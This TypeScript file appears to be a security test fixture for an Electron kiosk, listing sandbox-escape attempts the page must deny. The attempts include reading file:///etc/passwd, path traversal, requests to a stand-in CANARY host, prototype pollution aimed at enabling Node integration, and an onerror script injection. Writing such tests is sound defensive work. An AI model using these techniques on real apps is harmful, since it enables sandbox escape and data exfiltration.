/** One script that somebody runs inside the page, as if with a finger on the screen. */
export interface PageAttempt {
  readonly name: string;
  /**
   * An async function body. CANARY is the address of a server that must hear nothing, STUN of one for UDP.
   * It gives back something true only where it got what it wanted; what it opens, loads or sends is seen from outside.
   */
  readonly how: string;
  readonly expected: 'denied' | 'denied, and the page is loaded anew';
}

const attempt = (name: string, how: string): PageAttempt => ({ name, how, expected: 'denied' });

const opens = (url: string): PageAttempt =>
  attempt(`window.open of ${url}`, `return window.open(${JSON.stringify(url)}) !== null`);

const goesTo = (url: string): PageAttempt =>
  attempt(`go to ${url}`, `location.href = ${JSON.stringify(url)}; return false`);

const follows = (url: string, more = ''): PageAttempt =>
  attempt(
    `click a link to ${url} ${more}`,
    `const link = document.createElement('a'); link.href = ${JSON.stringify(url)}; ${more}
     document.body.append(link); link.click(); link.remove(); return false`,
  );

const permission = (name: string, ask: string): PageAttempt =>
  attempt(`ask for ${name}`, `return Boolean(await (${ask}))`);

const sends = (name: string, how: string): PageAttempt => attempt(`network: ${name}`, how);

const frame = (name: string, how: string): PageAttempt => ({
  name: `frame: ${name}`,
  how,
  expected: 'denied, and the page is loaded anew',
});

export const pageAttempts: readonly PageAttempt[] = [
  ...[
    'https://example.org/',
    'about:blank',
    'file:///etc/passwd',
    'chrome://gpu',
    'devtools://devtools/bundled/inspector.html',
    'data:text/html,<h1>x</h1>',
    'javascript:1',
    'blob:einwurf://kiosk/1',
    'einwurf://kiosk/',
    'einwurf://other/',
  ].map(opens),
  attempt(
    'window.open with features',
    `return window.open('about:blank', 'x', 'width=9,height=9,popup') !== null`,
  ),
  attempt(
    'window.open without Node off',
    `return window.open('about:blank', 'x', 'nodeIntegration=yes,contextIsolation=no') !== null`,
  ),
  ...[
    'https://example.org/',
    'http://CANARY/',
    'file:///etc/passwd',
    'chrome://settings',
    'chrome://crash',
    'view-source:einwurf://kiosk/',
    'data:text/html,<h1>x</h1>',
    'mailto:somebody@example.org',
    'tel:110',
    'ms-settings:privacy',
    'ms-officecmd:x',
    'search-ms:query=x',
    'steam://run/1',
    'vscode://x',
    'ftp://127.0.0.1/',
    'einwurf://other/',
    'einwurf://kiosk/assets/',
    'einwurf://kiosk/pages/00000000-0000-4000-8000-000000000000/preview',
    'einwurf://kiosk/../../etc/passwd',
  ].map(goesTo),
  follows('http://CANARY/'),
  follows('http://CANARY/', `link.target = '_blank';`),
  follows('http://CANARY/', `link.download = 'x';`),
  follows('data:text/plain,x', `link.download = 'x.txt';`),
  follows('http://CANARY/', `link.ping = 'http://CANARY/';`),
  follows('smb://127.0.0.1/share'),
  attempt(
    'download a blob',
    `const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x'])); link.download = 'x.txt'; link.click(); return false`,
  ),
  attempt(
    'send a form',
    `const form = document.createElement('form'); form.action = 'http://CANARY/'; form.method = 'post'; document.body.append(form); form.submit(); form.remove(); return false`,
  ),
  attempt(
    'open a file chooser by an input',
    `const input = document.createElement('input'); input.type = 'file'; input.click(); return false`,
  ),
  attempt(
    'open a file chooser by showPicker',
    `const input = document.createElement('input'); input.type = 'file'; input.showPicker(); return false`,
  ),
  attempt(
    'open a file chooser by an event',
    `const input = document.createElement('input'); input.type = 'file'; document.body.append(input); input.dispatchEvent(new MouseEvent('click', { bubbles: true })); input.remove(); return false`,
  ),
  attempt(
    'open a file chooser by a label',
    `const label = document.createElement('label'); const input = document.createElement('input'); input.type = 'file'; label.append(input); label.click(); return false`,
  ),
  attempt(
    'open a folder chooser',
    `const input = document.createElement('input'); input.type = 'file'; input.webkitdirectory = true; input.click(); return false`,
  ),
  attempt(
    'open a colour chooser',
    `const input = document.createElement('input'); input.type = 'color'; input.click(); return false`,
  ),
  attempt('showOpenFilePicker', `return Boolean(await window.showOpenFilePicker())`),
  attempt('showSaveFilePicker', `return Boolean(await window.showSaveFilePicker())`),
  attempt('showDirectoryPicker', `return Boolean(await window.showDirectoryPicker())`),
  attempt(
    'the file system of the origin',
    `const root = await navigator.storage.getDirectory(); const file = await root.getFileHandle('x', { create: true }); return Boolean(file)`,
  ),
  attempt('print', `window.print(); return false`),
  attempt('alert', `alert('x'); return false`),
  attempt('confirm', `return confirm('x')`),
  attempt('prompt', `return prompt('x') !== null`),
  attempt('close the window', `window.close(); return false`),
  attempt(
    'move and resize the window',
    `const before = [screenX, screenY, innerWidth].join(); window.moveTo(50, 50); window.resizeTo(100, 100); await new Promise((resolve) => setTimeout(resolve, 100)); return before !== [screenX, screenY, innerWidth].join()`,
  ),
  attempt(
    'full screen of an element',
    `return Boolean(await document.body.requestFullscreen().then(() => document.fullscreenElement))`,
  ),
  attempt(
    'hold the pointer',
    `document.body.requestPointerLock(); await new Promise((resolve) => setTimeout(resolve, 200)); return document.pointerLockElement !== null`,
  ),
  attempt(
    'hold the keyboard',
    `document.addEventListener('keydown', () => 0); return (await navigator.keyboard.lock()) === undefined && document.fullscreenElement !== null`,
  ),
  permission('the camera', `navigator.mediaDevices.getUserMedia({ video: true })`),
  permission('the microphone', `navigator.mediaDevices.getUserMedia({ audio: true })`),
  permission('the screen', `navigator.mediaDevices.getDisplayMedia({ video: true })`),
  permission(
    'the desktop by its source',
    `navigator.mediaDevices.getUserMedia({ video: { mandatory: { chromeMediaSource: 'desktop' } } })`,
  ),
  permission(
    'the place',
    `new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject, { timeout: 500 }))`,
  ),
  permission(
    'notifications',
    `Notification.requestPermission().then((state) => state === 'granted')`,
  ),
  permission('USB', `navigator.usb.requestDevice({ filters: [] })`),
  permission('serial ports', `navigator.serial.requestPort()`),
  permission(
    'HID',
    `navigator.hid.requestDevice({ filters: [] }).then((devices) => devices.length > 0)`,
  ),
  permission('Bluetooth', `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`),
  permission('MIDI', `navigator.requestMIDIAccess({ sysex: true })`),
  permission('the clipboard, reading', `navigator.clipboard.readText().then(() => true)`),
  permission('the clipboard, writing', `navigator.clipboard.writeText('x').then(() => true)`),
  permission('fonts of the system', `window.queryLocalFonts().then((fonts) => fonts.length > 0)`),
  permission('other screens', `window.getScreenDetails()`),
  permission('a wake lock', `navigator.wakeLock.request('screen')`),
  permission(
    'idle detection',
    `IdleDetector.requestPermission().then((state) => state === 'granted')`,
  ),
  permission(
    'a payment',
    `new PaymentRequest([{ supportedMethods: 'https://example.org/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()`,
  ),
  permission(
    'a security key',
    `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), timeout: 300 } })`,
  ),
  permission('persistent storage', `navigator.storage.persist()`),
  attempt(
    'copy by a command',
    `const area = document.createElement('textarea'); area.value = 'break-out'; document.body.append(area); area.select(); const copied = document.execCommand('copy'); area.remove(); return copied && false`,
  ),
  attempt(
    'paste by a command',
    `const area = document.createElement('textarea'); document.body.append(area); area.focus(); document.execCommand('paste'); const { value } = area; area.remove(); return value !== ''`,
  ),
  sends('fetch', `await fetch('http://CANARY/'); return true`),
  sends('fetch of our own origin', `await fetch('/index.html'); return true`),
  sends(
    'XMLHttpRequest',
    `const request = new XMLHttpRequest(); request.open('GET', 'http://CANARY/', false); request.send(); return true`,
  ),
  sends(
    'WebSocket',
    `await new Promise((resolve, reject) => { const socket = new WebSocket('ws://CANARY/'); socket.onopen = resolve; socket.onerror = reject; }); return true`,
  ),
  sends(
    'EventSource',
    `await new Promise((resolve, reject) => { const source = new EventSource('http://CANARY/'); source.onopen = resolve; source.onerror = reject; }); return true`,
  ),
  sends('beacon', `navigator.sendBeacon('http://CANARY/', 'x'); return false`),
  sends(
    'an image',
    `await new Promise((resolve, reject) => { const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = 'http://CANARY/x.png'; }); return true`,
  ),
  sends(
    'a style sheet',
    `await new Promise((resolve, reject) => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload = resolve; link.onerror = reject; link.href = 'http://CANARY/x.css'; document.head.append(link); }); return true`,
  ),
  sends(
    'a font',
    `const font = new FontFace('x', 'url(http://CANARY/x.woff2)'); await font.load(); return true`,
  ),
  sends(
    'a script',
    `await new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = resolve; script.onerror = reject; script.src = 'http://CANARY/x.js'; document.head.append(script); }); return true`,
  ),
  sends('an import', `await import('http://CANARY/x.js'); return true`),
  sends(
    'prefetch',
    `const link = document.createElement('link'); link.rel = 'prefetch'; link.href = 'http://CANARY/'; document.head.append(link); return false`,
  ),
  sends(
    'preconnect',
    `const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://CANARY/'; document.head.append(link); return false`,
  ),
  sends(
    'a name looked up early',
    `const link = document.createElement('link'); link.rel = 'dns-prefetch'; link.href = '//CANARY/'; document.head.append(link); return false`,
  ),
  sends(
    'WebRTC',
    `const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:STUN' }] }); connection.createDataChannel('x'); const found = []; connection.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate); await connection.setLocalDescription(await connection.createOffer()); await new Promise((resolve) => setTimeout(resolve, 500)); connection.close(); return found.some((line) => line.includes('srflx'))`,
  ),
  sends(
    'WebTransport',
    `const transport = new WebTransport('https://CANARY/'); await transport.ready; return true`,
  ),
  attempt(
    'a worker',
    `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); return await new Promise((resolve, reject) => { worker.onmessage = () => resolve(true); worker.onerror = reject; })`,
  ),
  attempt('a service worker', `await navigator.serviceWorker.register('/sw.js'); return true`),
  attempt('eval', `return (0, eval)('1') === 1`),
  attempt('a function from text', `return new Function('return 1')() === 1`),
  attempt(
    'a script in the page',
    `const script = document.createElement('script'); script.textContent = 'window.brokenOut = true'; document.head.append(script); return window.brokenOut === true`,
  ),
  attempt(
    'markup with a handler',
    `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.brokenOut = true">'); await new Promise((resolve) => setTimeout(resolve, 100)); return window.brokenOut === true`,
  ),
  attempt(
    'a plug-in',
    `const embed = document.createElement('embed'); embed.type = 'application/pdf'; embed.src = 'http://CANARY/x.pdf'; document.body.append(embed); await new Promise((resolve) => setTimeout(resolve, 100)); embed.remove(); return false`,
  ),
  attempt(
    'WebGL, for what it tells about the machine',
    `return document.createElement('canvas').getContext('webgl') !== null`,
  ),
  attempt(
    'a database that stays',
    `return await new Promise((resolve, reject) => { const request = openDatabase('x', '', '', 1); request ? resolve(true) : reject(); })`,
  ),
  attempt('Node.js: require', `return typeof require !== 'undefined'`),
  attempt('Node.js: process', `return typeof process !== 'undefined'`),
  attempt('Node.js: Buffer', `return typeof Buffer !== 'undefined'`),
  attempt(
    'Electron inside the page',
    `return typeof ipcRenderer !== 'undefined' || typeof electron !== 'undefined'`,
  ),
  attempt(
    'another function behind the bridge',
    `return Object.keys(window.kiosk).some((name) => !['request', 'onViewChanged'].includes(name))`,
  ),
  attempt(
    'change the bridge',
    `try { window.kiosk.request = () => 'mine'; } catch {} return (await window.kiosk.request('activity', null)) === 'mine'`,
  ),
  attempt(
    'reach out of the bridge by its constructor',
    `return window.kiosk.request.constructor('return typeof process')() !== 'undefined'`,
  ),
  attempt(
    'poison Array and reach the preload',
    `const original = Array.prototype.map; let leaked = false; Array.prototype.map = function (...args) { leaked ||= this.some?.((entry) => entry && entry.invoke); return original.apply(this, args); }; await window.kiosk.request('activity', null); Array.prototype.map = original; return leaked`,
  ),
  attempt(
    'poison Object.prototype',
    `Object.prototype.nodeIntegration = true; Object.prototype.preload = '/tmp/x.js'; const opened = window.open('einwurf://kiosk/'); delete Object.prototype.nodeIntegration; delete Object.prototype.preload; return opened !== null`,
  ),
  attempt(
    'drop a file',
    `const data = new DataTransfer(); data.items.add(new File(['x'], 'x.html', { type: 'text/html' })); const event = new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }); return document.body.dispatchEvent(event)`,
  ),
  attempt(
    'drag a link over the page',
    `return document.body.dispatchEvent(new DragEvent('dragover', { bubbles: true, cancelable: true }))`,
  ),
  attempt(
    'context menu',
    `return document.body.dispatchEvent(new MouseEvent('contextmenu', { bubbles: true, cancelable: true }))`,
  ),
  attempt(
    'paste an event',
    `return document.body.dispatchEvent(new ClipboardEvent('paste', { bubbles: true, cancelable: true }))`,
  ),
  attempt(
    'zoom by style',
    `visualViewport.scale; document.dispatchEvent(new WheelEvent('wheel', { ctrlKey: true, deltaY: -100, bubbles: true })); await new Promise((resolve) => setTimeout(resolve, 100)); return visualViewport.scale !== 1 || devicePixelRatio !== 1`,
  ),
  attempt(
    'speech of the browser',
    `return typeof webkitSpeechRecognition !== 'undefined' && Boolean(await new Promise((resolve, reject) => { const heard = new webkitSpeechRecognition(); heard.onstart = () => resolve(true); heard.onerror = reject; heard.start(); }))`,
  ),
  attempt(
    'picture in picture',
    `const video = document.createElement('video'); return Boolean(await video.requestPictureInPicture())`,
  ),
  attempt(
    'register a protocol handler',
    `navigator.registerProtocolHandler('web+x', 'einwurf://kiosk/?%s'); return false`,
  ),
  attempt('share', `return (await navigator.share({ title: 'x' })) === undefined`),
  attempt(
    'cookies that stay',
    `document.cookie = 'x=1; max-age=9999'; return document.cookie.includes('x=1')`,
  ),
  attempt(
    'a page of the kiosk that nobody may see',
    `return await new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve(true); image.onerror = reject; image.src = '/pages/00000000-0000-4000-8000-000000000000/preview'; })`,
  ),
  attempt(
    'a file beside the screens',
    `return await new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve(true); image.onerror = reject; image.src = '/..%2f..%2fpackage.json'; })`,
  ),
  attempt(
    'keep the page from going',
    `window.addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'x'; }); return false`,
  ),
  frame(
    'about:blank with its own functions',
    `const inner = document.createElement('iframe'); document.body.append(inner); const input = document.createElement('input'); input.type = 'file'; inner.contentWindow.HTMLElement.prototype.click.call(input); return false`,
  ),
  frame(
    'a file input of its own',
    `const inner = document.createElement('iframe'); document.body.append(inner); const input = inner.contentDocument.createElement('input'); input.type = 'file'; inner.contentDocument.body.append(input); input.click(); return false`,
  ),
  frame(
    'a file picker of its own',
    `const inner = document.createElement('iframe'); document.body.append(inner); return Boolean(await inner.contentWindow.showOpenFilePicker())`,
  ),
  frame(
    'a folder picker of its own',
    `const inner = document.createElement('iframe'); document.body.append(inner); return Boolean(await inner.contentWindow.showDirectoryPicker())`,
  ),
  attempt(
    'a frame with its text in an attribute',
    `const inner = document.createElement('iframe'); inner.srcdoc = '<script>parent.brokenOut=true</script>'; document.body.append(inner); return false`,
  ),
  frame(
    'a foreign page',
    `const inner = document.createElement('iframe'); inner.src = 'http://CANARY/'; document.body.append(inner); return false`,
  ),
  frame(
    'a file',
    `const inner = document.createElement('iframe'); inner.src = 'file:///etc/passwd'; document.body.append(inner); return false`,
  ),
  attempt(
    'an object',
    `const inner = document.createElement('object'); inner.data = 'data:text/html,x'; document.body.append(inner); await new Promise((resolve) => setTimeout(resolve, 300)); return false`,
  ),
];
